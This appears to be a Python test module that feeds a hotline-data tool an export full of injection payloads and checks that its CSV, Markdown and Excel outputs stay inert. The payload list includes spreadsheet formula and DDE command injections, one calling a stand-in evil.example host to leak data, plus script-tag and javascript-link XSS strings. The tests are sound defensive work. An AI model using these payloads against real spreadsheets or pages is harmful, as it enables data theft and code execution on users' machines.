"""Injection attacks: names in the data (and file names) that act when an output is opened.

A CSV cell ``=HYPERLINK(...)`` runs in Excel; a department named ``[x](javascript:…)`` or
``<script>`` becomes a link or HTML in report.md; ``|`` adds a column to a Markdown table. Each
attack ingests an export whose 承办单位, 乡镇 and 业务分类 hold such names, from a file whose own
name is one, then runs the command an analyst would and checks what it wrote is inert.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
import zipfile
from collections.abc import Iterator
from pathlib import Path

from markdown_it import MarkdownIt
from markdown_it.token import Token
from mdit_py_plugins.footnote import footnote_plugin

from hostile import Attack, Outcome, run_hotline
from hotline.safe_text import is_formula_like

#: Labels that act in a spreadsheet or in Markdown/HTML when written raw.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak","点击")',
    "+cmd|' /c calc'!A1",
    "@SUM(1)",
    "-2+3",
    " =1+1",
    "＝1+1",
    "[点我](javascript:alert(1))",
    "![](http://evil.example/x.png)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "县|教育局",
    "**粗体**_斜体_`代码`",
    "# 标题",
    "1. 列表",
)
HEADER = "工单编号,受理时间,诉求内容,承办单位,乡镇,业务分类,办理状态"
#: The name of the export file: a formula, a link and a table-breaking ``|`` (a file name cannot
#: hold ``/``).
FILE_NAME = "=1+1[点我](javascript:alert(1))|<b>.csv"
ORDERS = 3 * len(HOSTILE)


def _as_ingested(label: str) -> str:
    """A label as ingest stores it: full-width forms folded (NFKC), blanks trimmed."""
    return unicodedata.normalize("NFKC", label).strip()


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def hostile_export(folder: Path, name: str = FILE_NAME) -> Path:
    """A UTF-8 export whose unit, town and topic names are all :data:`HOSTILE`; one order
    without an id, so that rejects.csv has a row naming the file."""
    lines = [HEADER]
    for i in range(ORDERS):
        label = _quoted(HOSTILE[i % len(HOSTILE)])
        time = f"2021/3/{1 + i % 28} 9:00:00"
        lines.append(f"A{i:05d},{time},供暖问题,{label},{label},{label},已办结")
    lines.append(",2021/3/2 9:00:00,没有编号,县教育局,城关镇,供暖,已办结")
    path = folder / name
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def ingest_hostile(work: Path, out: str = "data") -> str:
    """Ingest :func:`hostile_export` into ``work/out`` in a child process; return ``out``."""
    export = hostile_export(work)
    home = work.parent / "project"
    done = run_hotline(["ingest", str(export), "--out", out], work=work, home=home)
    assert done.status == 0, done.stderr
    return out


# --- checks -----------------------------------------------------------------------------------

#: A Markdown reader as GitHub-like viewers read reports: CommonMark, tables, strikethrough,
#: footnotes.
MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"]).use(footnote_plugin)
_ACTIVE = {"link_open", "image", "html_inline", "html_block", "autolink"}


def _tokens(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _tokens(token.children or [])


def visible_text(markdown: str) -> str:
    """The text a reader sees (text tokens, entities decoded), joined."""
    return "".join(
        t.content for t in _tokens(MARKDOWN.parse(markdown)) if t.type in ("text", "text_special")
    )


def assert_inert_markdown(markdown: str, *, images: str = "figures/") -> None:
    """No link, HTML or remote image in ``markdown`` (images only from ``images``)."""
    for token in _tokens(MARKDOWN.parse(markdown)):
        if token.type == "image" and str(token.attrGet("src")).startswith(images):
            continue
        assert token.type not in _ACTIVE, (token.type, token.attrs, token.content)


def _pipes(line: str) -> int:
    """Cell separators of a table line: ``|`` not escaped by a backslash."""
    count, backslashes = 0, 0
    for ch in line:
        if ch == "|" and backslashes % 2 == 0:
            count += 1
        backslashes = backslashes + 1 if ch == "\\" else 0
    return count


def assert_table_shape(markdown: str) -> None:
    """Every line of a Markdown table has as many cells as its header (a reader drops the
    extra cells silently, so the raw lines are counted)."""
    width = None
    for line in markdown.splitlines():
        if not line.startswith("|"):
            width = None
            continue
        width = _pipes(line) if width is None else width
        assert _pipes(line) == width, f"{line!r}: not {width - 1} cells"


def assert_labels_shown(markdown: str, labels: tuple[str, ...] | list[str]) -> None:
    """The names are still there for the reader, character for character."""
    seen = visible_text(markdown)
    for label in labels:
        assert label.strip() in seen, f"{label!r} not shown as written"


def assert_inert_csv(text: str) -> list[list[str]]:
    """No cell a spreadsheet would run: a formula-like cell is quoted or a plain number."""
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    for row in rows:
        for cell in row:
            if is_formula_like(cell):
                try:
                    float(cell)
                except ValueError:
                    raise AssertionError(f"live formula in CSV: {cell!r}") from None
    return rows


def _metrics_csv(by: str):
    def build(work: Path) -> list[str]:
        return ["metrics", ingest_hostile(work), "--by", by, "--format", "csv"]

    def check(outcome: Outcome) -> None:
        rows = assert_inert_csv(outcome.stdout)
        keys = {row[0].removeprefix("'") for row in rows[1:]}
        for label in HOSTILE:  # every name is still there (as ingest normalises it)
            assert _as_ingested(label) in keys, (label, sorted(keys))

    return Attack(f"inject-metrics-csv-{by}", build, status=0, check=check)


def _account(outcome: Outcome) -> None:
    text = (outcome.work / "out" / "ingest_report.md").read_text(encoding="utf-8")
    assert_inert_markdown(text)
    assert_table_shape(text)
    assert_labels_shown(text, (FILE_NAME,))


def _names(folder: Path) -> list[str]:
    """The names from the data that a report states (facts of kind ``label``)."""
    facts = json.loads((folder / "facts.json").read_text(encoding="utf-8"))["facts"]
    return [f["text"] for f in facts if f["kind"] == "label" and f["text"] in _STRIPPED]


_INGESTED = {_as_ingested(label) for label in HOSTILE}
_STRIPPED = _INGESTED | set(HOSTILE)


def _report_checks(folder: Path, text_file: str, least: int) -> None:
    text = (folder / text_file).read_text(encoding="utf-8")
    assert_inert_markdown(text)
    assert_table_shape(text)
    names = _names(folder)
    assert len(names) >= least, names
    assert_labels_shown(text, names)  # shown to the reader exactly as they are in the data
    _inert_workbook(folder / "tables.xlsx")


def _inert_workbook(path: Path) -> None:
    """No formula anywhere in the workbook's XML: every name is a string cell."""
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name), name


CASES = [
    *(_metrics_csv(by) for by in ("department", "town", "topic")),
    Attack(
        "inject-ingest-account-md",
        lambda w: ["ingest", str(hostile_export(w)), "--out", "out"],
        status=0,
        check=_account,
    ),
    Attack(
        "inject-report-md-xlsx",
        lambda w: ["report", ingest_hostile(w), "--year", "2021", "--out", "rep", "--no-charts"],
        status=0,
        check=lambda o: _report_checks(o.work / "rep", "report.md", 5),  # the top 5 topics
    ),
    Attack(
        "inject-bulletin-md-xlsx",
        lambda w: [
            "report",
            ingest_hostile(w),
            "--year",
            "2021",
            "--month",
            "2021-03",
            "--out",
            "bul",
            "--no-charts",
        ],
        status=0,
        check=lambda o: _report_checks(o.work / "bul", "bulletin.md", len(_INGESTED)),
    ),
]
